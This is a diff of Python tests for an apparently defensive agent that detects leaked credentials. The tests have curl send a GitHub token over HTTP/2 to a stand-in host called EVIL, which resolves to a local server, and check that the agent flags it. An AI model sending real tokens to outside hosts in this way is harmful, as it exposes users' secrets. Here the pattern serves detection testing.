@@ -182,11 +182,14 @@ def test_tls_library_seen_without_loopback_capture():
     assert "ip" not in hits[0]["destination"]	# the socket was not tracked
 
 
-def test_curl_http2_hpack():
+def _h2_curl(prefix, curl_args):
+    """An nghttpd on loopback (EVIL's name resolves to it) and an agent; curl_args(d, url,
+    common, token) gives curl's arguments, common being the options every request needs.
+    Returns (hits of the token, agent, curl's stdout), after the agent stopped."""
     require_root()
     if not shutil.which("nghttpd"):
         raise Skip("nghttpd is not installed (scripts/setup installs nghttp2-server)")
-    d = tempfile.mkdtemp(prefix="cw-h2-")
+    d = tempfile.mkdtemp(prefix=prefix)
     cert, key = self_signed(d)
     port = free_port()
     srv = subprocess.Popen(["nghttpd", "-d", d, str(port), key, cert],
@@ -198,10 +201,10 @@ def test_curl_http2_hpack():
         hdr = os.path.join(d, "hdr")
         with open(hdr, "w") as f:
             f.write("Authorization: token %s\n" % token)
-        r = subprocess.run(["curl", "-sk", "--http2", "-o", "/dev/null", "-w", "%{http_version}",
-                            "-H", "@" + hdr, "--resolve", "%s:%d:127.0.0.1" % (EVIL, port),
-                            "https://%s:%d/v1" % (EVIL, port)], capture_output=True, text=True)
-        assert r.stdout == "2", r.stdout	# really HTTP/2
+        common = ["-sk", "--http2", "--resolve", "%s:%d:127.0.0.1" % (EVIL, port), "-o",
+                  "/dev/null"]
+        r = subprocess.run(["curl", *curl_args(d, "https://%s:%d/" % (EVIL, port), common,
+                                               "@" + hdr)], capture_output=True, text=True)
         hits = wait_own(agent, token, "credential-unexpected-destination")
     finally:
         agent.stop()
@@ -211,46 +214,28 @@ def test_curl_http2_hpack():
     assert hits[0]["network"]["protocol"] == "http2"
     assert hits[0]["destination"]["domain"] == EVIL and hits[0]["destination"]["port"] == port
     agent.assert_no_plaintext(token)
+    return hits, agent, r.stdout
+
+
+def test_curl_http2_hpack():
+    _, _, out = _h2_curl("cw-h2-", lambda d, url, common, hdr: [
+        *common, "-w", "%{http_version}", "-H", hdr, url + "v1"])
+    assert out == "2", out	# really HTTP/2
 
 
 def test_curl_http2_request_after_a_bulk_upload_on_the_same_connection():
     """Past the payload budget the middle of an upload is not copied: the HTTP/2 decoder is
     told of the hole and decodes the next request's (Huffman-coded) headers."""
-    require_root()
-    if not shutil.which("nghttpd"):
-        raise Skip("nghttpd is not installed (scripts/setup installs nghttp2-server)")
-    d = tempfile.mkdtemp(prefix="cw-h2gap-")
-    cert, key = self_signed(d)
-    port = free_port()
-    srv = subprocess.Popen(["nghttpd", "-d", d, str(port), key, cert],
-                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    time.sleep(0.5)
-    agent = Agent("--include-loopback")
-    token = github_token()
-    try:
+    def args(d, url, common, hdr):
         big = os.path.join(d, "big.bin")
         with open(big, "wb") as f:
             f.write(os.urandom(2 << 20))
-        hdr = os.path.join(d, "hdr")
-        with open(hdr, "w") as f:
-            f.write("Authorization: token %s\n" % token)
-        url = "https://%s:%d/" % (EVIL, port)
-        common = ["-sk", "--http2", "--resolve", "%s:%d:127.0.0.1" % (EVIL, port), "-o",
-                  "/dev/null", "-w", "%{http_version} %{num_connects}\n"]
-        r = subprocess.run(["curl", *common, "-T", big, url + "up", "--next", *common,
-                            "-H", "@" + hdr, url + "v1"], capture_output=True, text=True)
-        assert r.stdout.split("\n")[:2] == ["2 1", "2 0"], r.stdout	# h2, one connection
-        hits = wait_own(agent, token, "credential-unexpected-destination")
-    finally:
-        agent.stop()
-        srv.kill()
-        shutil.rmtree(d, ignore_errors=True)
-    assert len(hits) == 1, agent.stderr()
-    assert hits[0]["network"]["protocol"] == "http2"
-    assert "holes past the payload budget" in agent.stderr()
+        w = ["-w", "%{http_version} %{num_connects}\n"]
+        return [*common, *w, "-T", big, url + "up", "--next", *common, *w, "-H", hdr, url + "v1"]
+    _, agent, out = _h2_curl("cw-h2gap-", args)
+    assert out.split("\n")[:2] == ["2 1", "2 0"], out	# h2, one connection
     holes = int(agent.stderr().split(" holes past the payload budget")[0].split("(")[-1])
     assert holes >= 1, agent.stderr()
-    agent.assert_no_plaintext(token)
 
 
 GO_CLIENT = r'''
